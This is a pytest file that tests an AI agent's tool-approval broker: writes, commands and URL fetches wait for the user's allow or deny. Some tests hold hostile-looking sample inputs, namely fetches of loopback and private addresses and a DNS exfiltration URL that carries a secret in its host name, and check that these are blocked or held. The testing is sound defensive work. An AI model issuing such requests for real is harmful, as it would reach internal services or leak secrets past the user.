"""Tools that do more than read wait for the user: allow, deny, allow for the session."""

from __future__ import annotations

import socket

import pytest

from core.agent.approvals import ApprovalBroker
from core.errors import NotFound
from tests.agent.conftest_turn import Turn, tool_results_sent
from tests.fakes import fixtures

any_fake = fixtures.any_fake


def write_call(call_id: str, path: str, content: str) -> dict:
    return {"id": call_id, "name": "write_file", "arguments": {"path": path, "content": content}}


def test_write_file_waits_for_allow_then_writes(any_fake, tmp_path):
    any_fake.reply(tool_calls=[write_call("call_w", "hello.txt", "Hello!\n")])
    any_fake.reply(text="Written.")
    turn = Turn(any_fake, tmp_path).start()

    asked = turn.events.wait_for("approval.requested")
    assert asked["tool"] == "write_file"
    assert asked["arguments"] == {"path": "hello.txt", "content": "Hello!\n"}
    assert asked["summary"] == "Write 7 bytes to `hello.txt`"
    assert not (tmp_path / "hello.txt").exists()  # nothing happens before the answer
    waiting = turn.approvals.pending("session-1")
    assert [a["approval_id"] for a in waiting] == [asked["approval_id"]]
    assert waiting[0]["run_id"] == "run-1"

    decided = turn.approvals.decide(asked["approval_id"], "allow")

    assert decided["decision"] == "allow"
    assert turn.join() == "completed"
    assert (tmp_path / "hello.txt").read_text() == "Hello!\n"
    assert turn.events.types() == [
        "usage",
        "tool.started",
        "approval.requested",
        "tool.completed",
        "text.delta",
        "usage",
    ]
    assert turn.events.of("tool.completed")[0]["ok"] is True
    assert turn.approvals.pending() == []


def test_deny_gives_the_model_an_error_and_touches_nothing(any_fake, tmp_path):
    (tmp_path / "keep.txt").write_text("original\n")
    any_fake.reply(tool_calls=[write_call("call_d", "keep.txt", "overwritten\n")])
    any_fake.reply(text="Understood.")
    turn = Turn(any_fake, tmp_path).start()

    asked = turn.events.wait_for("approval.requested")
    turn.approvals.decide(asked["approval_id"], "deny")

    assert turn.join() == "completed"
    assert (tmp_path / "keep.txt").read_text() == "original\n"
    completed = turn.events.of("tool.completed")[0]
    assert completed["ok"] is False and "denied" in completed["output"]
    assert "the user denied this write_file call" in tool_results_sent(any_fake)["call_d"]
    with pytest.raises(NotFound):  # answered once, gone
        turn.approvals.decide(asked["approval_id"], "allow")


def test_allow_for_the_session_is_not_asked_again(any_fake, tmp_path):
    any_fake.reply(tool_calls=[write_call("call_1", "one.txt", "1")])
    any_fake.reply(tool_calls=[write_call("call_2", "two.txt", "2")])
    any_fake.reply(text="Both written.")
    broker = ApprovalBroker()
    turn = Turn(any_fake, tmp_path, approvals=broker).start()

    asked = turn.events.wait_for("approval.requested")
    broker.decide(asked["approval_id"], "allow_session")

    assert turn.join() == "completed"
    assert len(turn.events.of("approval.requested")) == 1
    assert (tmp_path / "one.txt").read_text() == "1"
    assert (tmp_path / "two.txt").read_text() == "2"

    # the next turn of the same session is not asked either; another session is
    any_fake.reply(tool_calls=[write_call("call_3", "three.txt", "3")])
    any_fake.reply(text="Three.")
    again = Turn(any_fake, tmp_path, approvals=broker, run_id="run-2")
    assert again.run() == "completed"
    assert again.events.of("approval.requested") == []

    any_fake.reply(tool_calls=[write_call("call_4", "four.txt", "4")])
    any_fake.reply(text="Four.")
    other = Turn(any_fake, tmp_path, approvals=broker, session_id="session-2").start()
    other_asked = other.events.wait_for("approval.requested")
    broker.decide(other_asked["approval_id"], "allow")
    assert other.join() == "completed"


def test_allow_for_the_session_covers_that_tool_only(any_fake, tmp_path):
    any_fake.reply(tool_calls=[write_call("call_1", "one.txt", "1")])
    any_fake.reply(
        tool_calls=[{"id": "call_2", "name": "run_command", "arguments": {"command": "echo hi"}}]
    )
    any_fake.reply(text="Done.")
    turn = Turn(any_fake, tmp_path).start()

    first = turn.events.wait_for("approval.requested")
    turn.approvals.decide(first["approval_id"], "allow_session")
    second = turn.events.wait_for("approval.requested", count=2)
    assert second["tool"] == "run_command"
    assert second["summary"] == "Run `echo hi` in the workspace"
    turn.approvals.decide(second["approval_id"], "allow")

    assert turn.join() == "completed"
    assert "hi" in tool_results_sent(any_fake)["call_2"]


def test_policy_allow_all_runs_without_asking(any_fake, tmp_path):
    any_fake.reply(tool_calls=[write_call("call_1", "free.txt", "free")])
    any_fake.reply(text="Done.")
    turn = Turn(any_fake, tmp_path, approvals=ApprovalBroker(policy=lambda: "allow_all"))

    assert turn.run() == "completed"

    assert turn.events.of("approval.requested") == []
    assert (tmp_path / "free.txt").read_text() == "free"


def test_a_fetch_of_a_local_address_is_refused_without_asking(any_fake, tmp_path):
    """fetch_url to a loopback or private address would be refused when it connects, so the
    user is not asked to approve it first: the model gets the refusal at once."""
    urls = ["http://127.0.0.1:9/secret", "http://localhost/admin", "http://10.0.0.1/"]
    any_fake.reply(
        tool_calls=[
            {"id": f"call_{i}", "name": "fetch_url", "arguments": {"url": url}}
            for i, url in enumerate(urls)
        ]
    )
    any_fake.reply(text="Those are local.")
    turn = Turn(any_fake, tmp_path).start()

    assert turn.join() == "completed"
    assert turn.events.of("approval.requested") == []
    sent = tool_results_sent(any_fake)
    for i in range(len(urls)):
        assert "private or local network address" in sent[f"call_{i}"]
    assert all(not done["ok"] for done in turn.events.of("tool.completed"))


def test_a_fetch_of_a_public_address_still_asks(any_fake, tmp_path):
    any_fake.reply(
        tool_calls=[{"id": "call_p", "name": "fetch_url", "arguments": {"url": "http://1.1.1.1/"}}]
    )
    any_fake.reply(text="Not fetched.")
    turn = Turn(any_fake, tmp_path).start()

    asked = turn.events.wait_for("approval.requested")
    assert asked["tool"] == "fetch_url"
    turn.approvals.decide(asked["approval_id"], "deny")
    assert turn.join() == "completed"


def test_a_host_name_is_not_looked_up_before_the_user_allows_the_fetch(
    any_fake, tmp_path, monkeypatch
):
    """Resolving a name the model chose already tells that name's DNS server about it (a way
    out for data, e.g. a secret in the name): only literal addresses are judged before the
    user is asked; a name is resolved once the fetch is allowed."""
    looked_up: list[str] = []
    real_getaddrinfo = socket.getaddrinfo

    def recording_getaddrinfo(host, *args, **kwargs):
        looked_up.append(str(host))
        return real_getaddrinfo(host, *args, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", recording_getaddrinfo)
    url = "https://the-secret-is-42.leak.example.com/x"
    any_fake.reply(tool_calls=[{"id": "call_d", "name": "fetch_url", "arguments": {"url": url}}])
    any_fake.reply(text="Not fetched.")
    turn = Turn(any_fake, tmp_path).start()

    asked = turn.events.wait_for("approval.requested")
    assert asked["arguments"] == {"url": url}
    assert not [host for host in looked_up if "leak.example.com" in host]
    turn.approvals.decide(asked["approval_id"], "deny")
    assert turn.join() == "completed"
    assert not [host for host in looked_up if "leak.example.com" in host]
